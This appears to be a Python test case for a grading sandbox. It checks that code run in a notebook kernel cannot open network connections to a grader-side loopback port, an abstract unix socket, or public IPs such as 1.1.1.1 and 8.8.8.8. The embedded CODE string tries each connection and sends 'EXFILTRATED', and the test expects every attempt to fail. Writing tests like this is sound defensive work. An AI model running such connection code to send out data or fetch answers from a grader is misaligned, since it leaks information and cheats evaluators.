"""Network connections out of the kernel.

Attack: connect to a TCP port on 127.0.0.1 that the test listens on (a
grader-side service), to an abstract unix socket the test listens on, and to
public IPs (1.1.1.1:443, 8.8.8.8:53), to exfiltrate or fetch answers.
Must score: 0 on every item (unsolved release); every connection fails and
the test's listeners see nothing.
"""
from _kit import ZERO, with_cell

ATTACK = "socket connects to 127.0.0.1:<test port>, an abstract unix socket, 1.1.1.1, 8.8.8.8"

CODE = '''
import socket


def attempt(label, family, address):
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.settimeout(3)
    try:
        sock.connect(address)
        sock.sendall(b"EXFILTRATED")
        print("CONNECTED", label)
    except Exception as exc:
        print("NO-CONNECTION", label, type(exc).__name__, getattr(exc, "errno", ""))
    finally:
        sock.close()


attempt("loopback", socket.AF_INET, ("127.0.0.1", {port}))
attempt("abstract", socket.AF_UNIX, "\\0" + {abstract!r})
attempt("cloudflare", socket.AF_INET, ("1.1.1.1", 443))
attempt("google-dns", socket.AF_INET, ("8.8.8.8", 53))
'''


def build(solved, release, ctx):
    return with_cell(release, CODE.format(port=ctx.port, abstract=ctx.abstract_socket),
                     after="setup")


EXPECT = {"scores": ZERO, "present": ["NO-CONNECTION loopback", "NO-CONNECTION abstract"],
          "absent": ["CONNECTED"]}
